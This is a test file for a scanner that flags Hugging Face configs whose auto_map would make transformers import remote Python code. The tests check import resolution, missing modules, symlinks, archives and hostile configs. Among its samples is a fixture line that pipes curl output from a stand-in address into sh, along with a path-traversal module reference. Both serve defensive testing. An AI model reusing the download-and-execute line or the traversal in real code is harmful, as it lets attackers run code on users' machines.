// auto_map → trust_remote_code: exactly which .py files would be imported, where they come from, and
// how severe that is; folders on disk, in-memory inputs and archives (members in any order).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BufferSource } from '../../src/formats/source.ts';
import { scanSource } from '../../src/scan/walker.ts';
import type { Finding } from '../../src/index.ts';
import { FIXTURES, findingsAbove, scanOne } from '../helpers/scan.ts';
import { storedZip } from '../helpers/archives.ts';

const BENIGN_MODEL = 'import torch\nfrom torch import nn\nfrom .layers import Block\n\nclass M(nn.Module):\n    def forward(self, x):\n        return x\n';
const MALICIOUS_MODEL = 'import os\nos.system("curl http://203.0.113.9/x | sh")\n\nclass M:\n    pass\n';
const LAYERS = 'from torch import nn\n\nclass Block(nn.Module):\n    pass\n';

function rc(findings: Finding[]): Finding[] {
  return findings.filter((f) => f.ruleId.startsWith('MG-RC'));
}

function tempModel(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'mg-rc-'));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, '..'), { recursive: true });
    writeFileSync(join(dir, name), text);
  }
  return dir;
}

async function scanConfig(config: object, name = 'config.json'): Promise<Finding[]> {
  const rows = await scanSource(new BufferSource(Buffer.from(JSON.stringify(config))), name, { hash: false });
  return rows[0].findings;
}

test('a plain HF model folder (no auto_map) has no remote-code finding and nothing above low', async () => {
  const { report, code } = await scanOne(`${FIXTURES}/text/hf_bert`);
  assert.equal(code, 0);
  assert.deepEqual(findingsAbove(report, 'low'), []);
  assert.deepEqual(report.files.flatMap((f) => rc(f.findings)), []);
});

test('a benign remote-code model: one medium finding listing exactly the imported files', async () => {
  const { report, code } = await scanOne(`${FIXTURES}/text/hf_remote_benign`);
  assert.equal(code, 0);
  const all = report.files.flatMap((f) => f.findings);
  assert.deepEqual(all.map((f) => `${f.ruleId} ${f.severity}`), ['MG-RC-001 medium']);
  const [f] = all;
  assert.match(f.message, /trust_remote_code=True/);
  // The config's modules plus modeling_tiny.py's relative imports (.configuration_tiny, .layers).
  assert.deepEqual(f.evidence.files, ['configuration_tiny.py', 'modeling_tiny.py', 'layers.py']);
  assert.deepEqual(f.evidence.missing, []);
  assert.ok(!report.files.some((r) => r.path.endsWith('generation_config.json') && r.findings.length));
});

test('the config finding is high when the imported code is dangerous, and names it', async () => {
  const dir = tempModel({
    'config.json': JSON.stringify({ auto_map: { AutoModel: 'modeling_m.M' } }),
    'modeling_m.py': 'from .helpers import setup\nsetup()\n',
    'helpers.py': 'import subprocess\ndef setup():\n    subprocess.run(["id"])\n',
  });
  try {
    const { report } = await scanOne(dir);
    const config = report.files.find((r) => r.path.endsWith('config.json'))!;
    const [f] = rc(config.findings);
    assert.equal(f.severity, 'high');
    assert.deepEqual(f.evidence.files, ['modeling_m.py', 'helpers.py']);
    assert.deepEqual(f.evidence.dangerous, ['helpers.py']);
    // helpers.py on its own: setup() runs only when called (the call is in another file).
    const helpers = report.files.find((r) => r.path.endsWith('helpers.py'))!;
    assert.ok(helpers.findings.some((x) => x.ruleId === 'MG-PY-002' && x.severity === 'high'));
  } finally {
    rmSync(dir, { recursive: true });
  }
});

test('missing modules, cross-repository references and malformed references are high', async () => {
  const { report } = await scanOne(`${FIXTURES}/text/hf_remote_unreviewable`);
  const config = rc(report.files.find((r) => r.path.endsWith('/config.json'))!.findings);
  assert.deepEqual(config.map((f) => `${f.ruleId} ${f.severity}`), ['MG-RC-001 high']);
  assert.deepEqual(config[0].evidence.missing, ['modeling_other.py']);
  const tok = rc(report.files.find((r) => r.path.endsWith('tokenizer_config.json'))!.findings);
  assert.deepEqual(tok.map((f) => `${f.ruleId} ${f.severity}`), ['MG-RC-002 high', 'MG-RC-001 high']);
  assert.deepEqual(tok[0].evidence.repos, ['example-org/shared-tokenizers']);

  const bad = await scanConfig({ auto_map: { AutoModel: '../../etc/evil.Cls' } });
  assert.equal(rc(bad)[0].severity, 'high');
  assert.match(rc(bad)[0].message, /malformed reference/);
});

test('auto_map forms: [slow, fast] lists with null, every config file name, custom_pipelines', async () => {
  const tok = await scanConfig({ auto_map: { AutoTokenizer: ['tokenization_x.XTokenizer', null] } }, 'tokenizer_config.json');
  assert.deepEqual(rc(tok)[0].evidence.files, ['tokenization_x.py']);
  const fast = await scanConfig({ auto_map: { AutoTokenizer: ['tokenization_x.XTokenizer', 'tokenization_x_fast.XTokenizerFast'] } }, 'tokenizer_config.json');
  assert.deepEqual(rc(fast)[0].evidence.files, ['tokenization_x.py', 'tokenization_x_fast.py']);
  for (const name of ['processor_config.json', 'preprocessor_config.json', 'feature_extractor_config.json', 'image_processor_config.json']) {
    const f = await scanConfig({ auto_map: { AutoProcessor: 'processing_x.XProcessor' } }, name);
    assert.deepEqual(rc(f)[0].evidence.files, ['processing_x.py'], name);
  }
  const pipe = await scanConfig({ custom_pipelines: { 'text-classification': { impl: 'pipeline_x.MyPipeline', pt: ['AutoModel'] } } });
  assert.deepEqual(rc(pipe)[0].evidence.files, ['pipeline_x.py']);
  // Other JSON files with an auto_map key are not configs transformers reads.
  assert.deepEqual(rc(await scanConfig({ auto_map: { A: 'x.Y' } }, 'data.json')), []);
  // Scanned alone (in memory), the code is not there to review.
  const alone = await scanConfig({ auto_map: { AutoModel: 'modeling_x.M' } });
  assert.equal(rc(alone)[0].severity, 'high');
  assert.deepEqual(rc(alone)[0].evidence.missing, ['modeling_x.py']);
});

test('configs Python wrote with NaN are still read; unreadable configs naming auto_map fail closed', async () => {
  const nan = '{"auto_map": {"AutoModel": "modeling_x.M"}, "layer_norm_eps": NaN, "max": Infinity, "note": "NaN stays"}';
  const rows = await scanSource(new BufferSource(Buffer.from(nan)), 'config.json', { hash: false });
  assert.deepEqual(rc(rows[0].findings)[0].evidence.files, ['modeling_x.py']);
  const broken = await scanSource(new BufferSource(Buffer.from('{"auto_map": {"AutoModel": "modeling_x.M",')), 'config.json', { hash: false });
  assert.equal(broken[0].status, 'error');
  assert.equal(rc(broken[0].findings)[0].severity, 'high');
});

test('on disk: relative imports are followed, links and paths outside the folder are not', async () => {
  const outside = tempModel({ 'secret_code.py': 'import os\nos.system("x")\n' });
  const dir = tempModel({
    'config.json': JSON.stringify({ auto_map: { AutoModel: 'modeling_m.M', AutoConfig: 'configuration_m.C' } }),
    'modeling_m.py': 'from .sub.impl import X\nfrom . import utils\nfrom ..escape import Y\nfrom .linked import Z\n',
    'sub/impl.py': 'X = 1\n',
    'utils.py': 'pass\n',
  });
  symlinkSync(join(outside, 'secret_code.py'), join(dir, 'linked.py'));
  symlinkSync(join(outside, 'secret_code.py'), join(dir, 'configuration_m.py'));
  try {
    const { report } = await scanOne(join(dir, 'config.json'));
    const [f] = rc(report.files[0].findings);
    assert.deepEqual(f.evidence.files, ['modeling_m.py', 'configuration_m.py', 'sub/impl.py', 'utils.py', '../escape.py', 'linked.py']);
    assert.deepEqual(f.evidence.missing, ['configuration_m.py', '../escape.py', 'linked.py']);
    assert.equal(f.severity, 'high');
  } finally {
    rmSync(dir, { recursive: true });
    rmSync(outside, { recursive: true });
  }
});

test('in archives, the finding follows the members whatever their order', async () => {
  const config = JSON.stringify({ auto_map: { AutoModel: 'modeling_m.M' } });
  const cases: Array<[string, Array<[string, string]>, string, string[]]> = [
    ['config first, benign', [['repo/config.json', config], ['repo/modeling_m.py', BENIGN_MODEL], ['repo/layers.py', LAYERS]], 'medium', []],
    ['code first, benign', [['repo/layers.py', LAYERS], ['repo/modeling_m.py', BENIGN_MODEL], ['repo/config.json', config]], 'medium', []],
    ['config first, malicious', [['repo/config.json', config], ['repo/modeling_m.py', MALICIOUS_MODEL]], 'high', []],
    ['module missing', [['repo/config.json', config], ['other/modeling_m.py', BENIGN_MODEL]], 'high', ['modeling_m.py']],
    ['relative import missing', [['repo/config.json', config], ['repo/modeling_m.py', BENIGN_MODEL]], 'high', ['layers.py']],
  ];
  for (const [label, members, severity, missing] of cases) {
    const rows = await scanSource(new BufferSource(storedZip(members)), 'model.zip', { hash: false });
    const configRow = rows.find((r) => r.path.endsWith('repo/config.json'))!;
    const [f] = rc(configRow.findings);
    assert.equal(f.severity, severity, `${label}: ${f.message}`);
    assert.deepEqual(f.evidence.missing, missing, label);
    assert.equal(f.path, 'model.zip!repo/config.json');
  }
});

test('an archive with thousands of Python members and a config stays fast', async () => {
  const members: Array<[string, string]> = [['repo/config.json', JSON.stringify({ auto_map: { AutoModel: 'modeling_m.M' } })]];
  for (let i = 0; i < 2000; i++) members.push([`repo/mod_${i}.py`, `import torch\nX${i} = torch.zeros(${i})\n`]);
  members.push(['repo/modeling_m.py', BENIGN_MODEL], ['repo/layers.py', LAYERS]);
  const t0 = Date.now();
  const rows = await scanSource(new BufferSource(storedZip(members)), 'big.zip', { hash: false });
  const [f] = rc(rows.find((r) => r.path.endsWith('config.json'))!.findings);
  assert.equal(f.severity, 'medium');
  assert.ok(Date.now() - t0 < 10_000, `${Date.now() - t0} ms`);
});

test('hostile configs: huge auto_map and deep nesting end quickly', async () => {
  const auto_map: Record<string, string> = {};
  for (let i = 0; i < 50_000; i++) auto_map[`K${i}`] = `modeling_${i}.M`;
  const t0 = Date.now();
  const f = rc(await scanConfig({ auto_map }));
  assert.equal(f[0].severity, 'high');
  assert.ok((f[0].evidence.files as string[]).length <= 64);
  const deep = `{"auto_map": ${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
  const rows = await scanSource(new BufferSource(Buffer.from(deep)), 'config.json', { hash: false });
  assert.ok(rows[0].findings.length <= 1);
  assert.ok(Date.now() - t0 < 5000, `${Date.now() - t0} ms`);
});

test('every MG-RC/MG-PY/MG-SEC rule is produced by the text fixtures or the corpus', async () => {
  const { RULES } = await import('../../src/index.ts');
  const seen = new Set<string>();
  for (const p of [`${FIXTURES}/text`, `${FIXTURES}/corpus/hf_automap_subprocess`, `${FIXTURES}/corpus/secrets_folder`]) {
    const { report } = await scanOne(p);
    for (const f of report.files) for (const x of f.findings) seen.add(x.ruleId);
  }
  const mine = RULES.filter((r) => /^MG-(RC|PY|SEC)-/.test(r.id)).map((r) => r.id);
  assert.equal(mine.length, 13);
  assert.deepEqual(mine.filter((id) => !seen.has(id)), []);
});
